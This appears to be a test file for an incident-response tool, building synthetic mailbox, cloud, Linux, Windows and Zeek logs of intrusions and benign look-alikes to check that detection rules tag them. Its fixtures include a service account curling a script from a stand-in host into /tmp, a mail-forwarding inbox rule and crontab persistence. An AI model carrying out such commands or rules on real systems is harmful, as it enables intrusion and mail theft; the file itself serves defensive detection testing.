import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, expect, it } from "vitest";
import { importFile } from "@/lib/ingest/import-file";
import { newIncident } from "@/lib/testing/import-fixtures";
import { describeEachDatabase, useTestDatabase } from "@/lib/testing/test-databases";
import { runRules } from "./run-rules";

// Small logs of each intrusion shape the built-in rules cover, with the look-alikes they must
// leave alone, written as the exporting tools write them (one file per format).
const dir = mkdtempSync(path.join(os.tmpdir(), "chainline-coverage-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const write = (name: string, text: string) => {
  const file = path.join(dir, name);
  writeFileSync(file, text);
  return file;
};
const jsonl = (rows: object[]) => `${rows.map((r) => JSON.stringify(r)).join("\n")}\n`;
const at = (base: string, minutes: number) => new Date(Date.parse(base) + minutes * 60_000).toISOString().replace(".000Z", "Z");

const params = (pairs: [string, string][]) => pairs.map(([Name, Value]) => ({ Name, Value }));
let uid = 0;
const ual = (time: string, operation: string, parameters: [string, string][], extra: object = {}) => ({
  CreationTime: time.replace("Z", ""),
  Id: `0f0e0d0c-0000-4000-8000-${String(++uid).padStart(12, "0")}`,
  Operation: operation,
  RecordType: 1,
  ResultStatus: "True",
  UserType: 2,
  Workload: "Exchange",
  UserId: "victim@contoso.test",
  ClientIP: "203.0.113.7:17362",
  Parameters: params(parameters),
  ...extra,
});
const mailbox = write(
  "ual.jsonl",
  jsonl([
    ual("2023-06-14T09:00:00Z", "New-InboxRule", [
      ["Name", "Archive"],
      ["ForwardTo", "drop@example.test"],
      ["DeleteMessage", "True"],
    ]),
    ual("2023-06-14T09:01:00Z", "New-InboxRule", [
      ["Name", ".."],
      ["SubjectContainsWords", "invoice"],
      ["MoveToFolder", "RSS Subscriptions"],
    ]),
    // A tidy user's rule: no hiding, no forwarding.
    ual("2023-06-14T09:02:00Z", "New-InboxRule", [
      ["Name", "junk"],
      ["SubjectContainsWords", "legal"],
      ["DeleteMessage", "False"],
    ]),
    ual("2023-06-14T09:03:00Z", "Set-Mailbox", [
      ["Identity", "victim@contoso.test"],
      ["ForwardingSmtpAddress", "smtp:drop@example.test"],
      ["DeliverToMailboxAndForward", "True"],
    ]),
    // The remedy: the forward cleared.
    ual("2023-06-15T09:00:00Z", "Set-Mailbox", [
      ["Identity", "victim@contoso.test"],
      ["ForwardingSmtpAddress", ""],
    ]),
  ]),
);

const signIn = (time: string, ip: string, errorCode = 0) => ({
  id: `5161a000-0000-4000-8000-${String(++uid).padStart(12, "0")}`,
  createdDateTime: time,
  userPrincipalName: "victim@contoso.test",
  appId: "00000002-0000-0ff1-ce00-000000000000",
  appDisplayName: "Office 365 Exchange Online",
  ipAddress: ip,
  clientAppUsed: "Browser",
  isInteractive: true,
  status: { errorCode, failureReason: errorCode ? "Invalid username or password." : "Other." },
});
const signIns = write(
  "signins.jsonl",
  jsonl([
    ...Array.from({ length: 12 }, (_, d) => signIn(at("2023-06-01T08:00:00Z", d * 24 * 60), "198.51.100.10")),
    // A refused attempt from a new address is no sign-in; the success after it is.
    signIn("2023-06-14T08:00:00Z", "192.0.2.77", 50126),
    signIn("2023-06-14T08:05:00Z", "192.0.2.77"),
    // Back at the office.
    signIn("2023-06-14T10:00:00Z", "198.51.100.10"),
  ]),
);

const trail = (time: string, name: string, identity: object, ip: string, bucket = "open-bucket") => ({
  eventVersion: "1.08",
  userIdentity: identity,
  eventTime: time,
  eventSource: "s3.amazonaws.com",
  eventName: name,
  awsRegion: "us-east-1",
  sourceIPAddress: ip,
  userAgent: "python-requests/2.31",
  requestParameters: { bucketName: bucket, key: "backup.sql" },
  eventID: `6f1c6a0e-0000-4000-8000-${String(++uid).padStart(12, "0")}`,
  readOnly: true,
  eventType: "AwsApiCall",
  managementEvent: false,
  recipientAccountId: "111122223333",
});
const anonymous = { type: "AnonymousPrincipal", principalId: "ANONYMOUS_PRINCIPAL" };
const app = {
  type: "IAMUser",
  principalId: "AIDAAPP",
  arn: "arn:aws:iam::111122223333:user/app",
  accountId: "111122223333",
  userName: "app",
};
const thief = {
  type: "IAMUser",
  principalId: "AIDATHIEF",
  arn: "arn:aws:iam::111122223333:user/intern",
  accountId: "111122223333",
  userName: "intern",
};
const cloudtrail = write(
  "cloudtrail.jsonl",
  jsonl([
    // A scanner: 24 anonymous reads in 6 minutes; another address tries twice.
    ...Array.from({ length: 24 }, (_, i) =>
      trail(at("2023-06-10T12:00:00Z", i / 4), i % 3 ? "GetObject" : "ListObjects", anonymous, "192.0.2.200"),
    ),
    ...Array.from({ length: 2 }, (_, i) => trail(at("2023-06-10T12:00:00Z", i), "GetObject", anonymous, "192.0.2.201")),
    // The bucket's own reader, daily, then an account that never read it.
    ...Array.from({ length: 25 }, (_, i) => trail(at("2023-06-01T00:00:00Z", i * 60), "GetObject", app, "198.51.100.20")),
    trail("2023-06-03T00:00:00Z", "GetObject", thief, "203.0.113.9"),
  ]),
);

const sysmonLinux = (time: string, id: number, data: Record<string, string>) => ({
  TimeGenerated: time,
  Computer: "WEB1",
  HostName: "WEB1",
  Facility: "user",
  SeverityLevel: "info",
  ProcessName: "sysmon",
  Type: "Syslog",
  HostIP: "192.168.2.5",
  SyslogMessage: `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><TimeCreated SystemTime="${time}"/><EventRecordID>${++uid}</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>WEB1</Computer></System><EventData>${Object.entries(
    data,
  )
    .map(([k, v]) => `<Data Name="${k}">${v}</Data>`)
    .join("")}</EventData></Event>`,
});
const auoms = (time: string, user: string, exe: string, cmdline: string) => ({
  TimeGenerated: time,
  Computer: "WEB1",
  HostName: "WEB1",
  Facility: "user",
  SeverityLevel: "info",
  ProcessName: "auoms",
  Type: "Syslog",
  HostIP: "192.168.2.5",
  SyslogMessage: `type=AUOMS_EXECVE audit(1686391200.000:${++uid}): SchemaVersion="1" node=WEB1 syscall=execve success=yes exit=0 ppid=1340 pid=${uid} user=${user} uid=1001 comm="${path.basename(exe)}" exe="${exe}" cwd="/" cmdline="${cmdline}" redactors= containerid=`,
});
const linux = write(
  "linux.json",
  jsonl([
    auoms("2023-06-10T18:10:21Z", "tomcat", "/usr/bin/curl", "curl -s http://192.0.2.66/x.sh -o /tmp/x.sh"),
    // An administrator's download: no finding.
    auoms("2023-06-10T18:11:00Z", "alice", "/usr/bin/wget", "wget https://deb.example.test/pkg.deb"),
    auoms("2023-06-10T18:12:00Z", "root", "/usr/bin/crontab", "crontab /tmp/cron.txt"),
    // Listing the table changes nothing.
    auoms("2023-06-10T18:12:30Z", "root", "/usr/bin/crontab", "crontab -l"),
    sysmonLinux("2023-06-10T18:13:00.000000000Z", 11, {
      UtcTime: "2023-06-10 18:13:00.000",
      ProcessId: "4242",
      Image: "/usr/bin/cp",
      TargetFilename: "/etc/systemd/system/updater.service",
      User: "root",
    }),
    sysmonLinux("2023-06-10T18:13:30.000000000Z", 11, {
      UtcTime: "2023-06-10 18:13:30.000",
      ProcessId: "4243",
      Image: "/usr/bin/vim",
      TargetFilename: "/etc/hosts",
      User: "root",
    }),
  ]),
);

// A payload on WS1 (192.168.1.42) calls its controller; the network sensor sees WS1 reach an
// external address it never reached before, upload 150 MB to it, and reach a known one again.
const windows = write(
  "sysmon.jsonl",
  jsonl([
    {
      SourceName: "Microsoft-Windows-Sysmon",
      Channel: "Microsoft-Windows-Sysmon/Operational",
      Hostname: "WS1.corp.test",
      TimeCreated: "2023-06-10T09:00:00.000Z",
      EventID: 3,
      Image: "C:\\Users\\bob\\Downloads\\invoice.exe",
      User: "CORP\\bob",
      Protocol: "tcp",
      Initiated: "true",
      SourceIp: "192.168.1.42",
      SourcePort: "60352",
      DestinationIp: "10.0.5.13",
      DestinationPort: "443",
    },
  ]),
);
const conn = (ts: number, dst: string, origBytes: number) =>
  [
    ts.toFixed(6),
    `C${++uid}`,
    "192.168.1.42",
    "50000",
    dst,
    "443",
    "tcp",
    "ssl",
    "60.0",
    origBytes,
    "4000",
    "SF",
    "T",
    "F",
    "0",
    "ShADadFf",
    "10",
    "100",
    "10",
    "100",
    "(empty)",
  ].join("\t");
const t0 = Date.parse("2023-06-10T09:00:00Z") / 1000;
const zeek = write(
  "conn.log",
  [
    "#separator \\x09",
    "#set_separator\t,",
    "#empty_field\t(empty)",
    "#unset_field\t-",
    "#path\tconn",
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents",
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]",
    // Reached every morning before the payload ran, and again after: not new.
    conn(t0 - 3600, "198.51.100.80", 2000),
    conn(t0 + 600, "198.51.100.80", 2000),
    // First reached after: new; then a 150 MB upload to it.
    conn(t0 + 900, "203.0.113.66", 3000),
    conn(t0 + 1200, "203.0.113.66", 150_000_000),
    // An internal file server: never "external".
    conn(t0 + 1500, "192.168.1.4", 200_000_000),
    "#close\t2023-06-10-10-00-00",
    "",
  ].join("\n"),
);

describeEachDatabase("the built-in rules for mailbox, AWS, Linux and network tradecraft", (kind) => {
  const t = useTestDatabase(kind);

  it("tag each shape once, by the rule that describes it best, and leave the look-alikes alone", async () => {
    const { ctx, incidentId } = await newIncident(t.db, "Coverage");
    for (const filePath of [mailbox, signIns, cloudtrail, linux, windows, zeek]) await importFile(ctx, { incidentId, filePath });
    await runRules(ctx, incidentId);
    const tagged = await t.db.sql.query<{ file: string; line: number; stage: string; rule: string }>(
      `SELECT s.name AS file, s.format, e.line_number AS line, st.key AS stage, e.stage_set_by AS rule
       FROM events e JOIN sources s ON s.id = e.source_id JOIN stages st ON st.id = e.stage_id
       WHERE e.incident_id = $1 ORDER BY s.name, e.line_number`,
      [incidentId],
    );
    const by = (file: string) =>
      tagged.filter((r) => r.file === file).map((r) => `${r.line} ${r.stage} ${r.rule.replace("rule:generic.", "")}`);
    // Line 1 forwards and deletes: forwarding is the graver, and wins.
    expect(by("ual.jsonl")).toEqual([
      "1 collection inbox-rule-forwards",
      "2 defense-evasion inbox-rule-hides",
      "3 persistence inbox-rule-created",
      "4 collection mailbox-forwarding-set",
    ]);
    expect(by("signins.jsonl")).toEqual(["14 initial-access sign-in-new-address"]);
    const scanner = Array.from({ length: 24 }, (_, i) => `${i + 1} collection aws-anonymous-s3-burst`);
    expect(by("cloudtrail.jsonl")).toEqual([...scanner, "52 collection aws-s3-new-principal"]);
    expect(by("linux.json")).toEqual([
      "1 command-and-control service-account-download",
      "3 persistence cron-or-systemd-unit",
      "5 persistence cron-or-systemd-unit",
    ]);
    expect(by("conn.log")).toEqual(["10 command-and-control new-destination-after-compromise", "11 exfiltration large-outbound-transfer"]);
  });
});
